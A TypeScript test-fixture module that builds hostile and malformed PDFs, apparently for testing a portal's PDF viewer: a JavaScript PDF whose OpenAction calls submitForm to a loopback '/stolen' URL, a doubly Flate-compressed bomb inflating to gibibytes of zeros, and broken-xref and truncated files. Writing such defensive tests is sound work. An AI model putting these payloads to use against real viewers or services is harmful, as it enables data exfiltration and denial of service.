// Hand-built PDFs for the hostile corpus: each one a well-formed file (correct xref offsets, trailer, %%EOF)
// except where the case is the malformation itself.
import { deflateRawSync, deflateSync, constants } from 'node:zlib';

/** A PDF of these indirect objects (numbered from 1, the first the catalog) with an exact cross-reference table. */
export function rawPdf(objects: Array<string | Buffer>): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(length);
    const chunk = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(chunk);
    length += chunk.length;
  });
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${objects.length + 1} /Root 1 0 R >>`,
    'startxref',
    String(length),
    '%%EOF',
    '',
  ].join('\n');
  parts.push(Buffer.from(xref, 'latin1'));
  return Buffer.concat(parts);
}

function stream(dict: string, data: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream', 'latin1'),
  ]);
}

const PAGE_TREE = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>';

/** A one-page PDF saying `text`. */
export function plainPdf(text = 'Agreement'): Buffer {
  const content = Buffer.from(`BT /F1 18 Tf 50 700 Td (${text}) Tj ET`);
  return rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', PAGE_TREE, PAGE, stream('', content)]);
}

/**
 * A one-page PDF that runs JavaScript when opened (/OpenAction) and names more in its /JavaScript name tree: it
 * shows an alert and tries to navigate away. A viewer without a JavaScript engine (pdf.js as the portal configures
 * it) renders the page and runs none of it.
 */
export function javascriptPdf(): Buffer {
  const js = "app.alert('pdf-javascript-ran'); this.submitForm('http://127.0.0.1:9/stolen');";
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(boot) 5 0 R] >> >> >>',
    PAGE_TREE,
    PAGE,
    stream('', Buffer.from('BT /F1 18 Tf 50 700 Td (A document with JavaScript) Tj ET')),
    `<< /Type /Action /S /JavaScript /JS (${js}) >>`,
  ]);
}

/** Bytes one mebibyte of zeros compresses to as a self-contained, byte-aligned, non-final deflate segment. */
const ZERO_MIB_SEGMENT = deflateRawSync(Buffer.alloc(1 << 20), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
/** An empty final deflate block (fixed Huffman, end of block only). */
const FINAL_BLOCK = Buffer.from([0x03, 0x00]);

/** zlib stream (RFC 1950) of `mebibytes` MiB of zeros, built from one compressed segment repeated. */
function zerosZlib(mebibytes: number): Buffer {
  const total = mebibytes * (1 << 20);
  // Adler-32 of zeros: a stays 1, b grows by 1 per byte.
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((total % 65521) << 16) | 1) >>> 0);
  return Buffer.concat([
    Buffer.from([0x78, 0xda]),
    ...Array<Buffer>(mebibytes).fill(ZERO_MIB_SEGMENT),
    FINAL_BLOCK,
    adler,
  ]);
}

/**
 * A compression bomb: a few KB of PDF whose page content stream is Flate-compressed twice (/Filter [/FlateDecode
 * /FlateDecode]) and inflates to `gibibytes` GiB of zeros. Storing it costs its size; only a reader that decodes the
 * stream pays the rest.
 */
export function compressionBombPdf(gibibytes = 4): { pdf: Buffer; inflatedBytes: number } {
  const inner = zerosZlib(gibibytes * 1024);
  const outer = deflateSync(inner, { level: 9 });
  const pdf = rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGE_TREE,
    PAGE,
    stream('/Filter [/FlateDecode /FlateDecode]', outer),
  ]);
  return { pdf, inflatedBytes: gibibytes * 2 ** 30 };
}

/** The stream data of the first `stream … endstream` in a PDF (the bomb's doubly compressed content). */
export function firstStream(pdf: Buffer): Buffer {
  const start = pdf.indexOf('stream\n') + 'stream\n'.length;
  return pdf.subarray(start, pdf.indexOf('\nendstream', start));
}

/** A PDF whose `startxref` points at an offset where no cross-reference section starts. */
export function brokenXrefPdf(): Buffer {
  return Buffer.from(
    plainPdf()
      .toString('latin1')
      .replace(/startxref\n\d+/, 'startxref\n17'),
    'latin1',
  );
}

/** A PDF whose `startxref` points past the end of the file. */
export function xrefPastEndPdf(): Buffer {
  return Buffer.from(
    plainPdf()
      .toString('latin1')
      .replace(/startxref\n\d+/, 'startxref\n99999999'),
    'latin1',
  );
}

/** The first half of a valid PDF: header and objects, no cross-reference table, no trailer. */
export function truncatedPdf(): Buffer {
  const pdf = plainPdf();
  return pdf.subarray(0, Math.floor(pdf.length / 2));
}
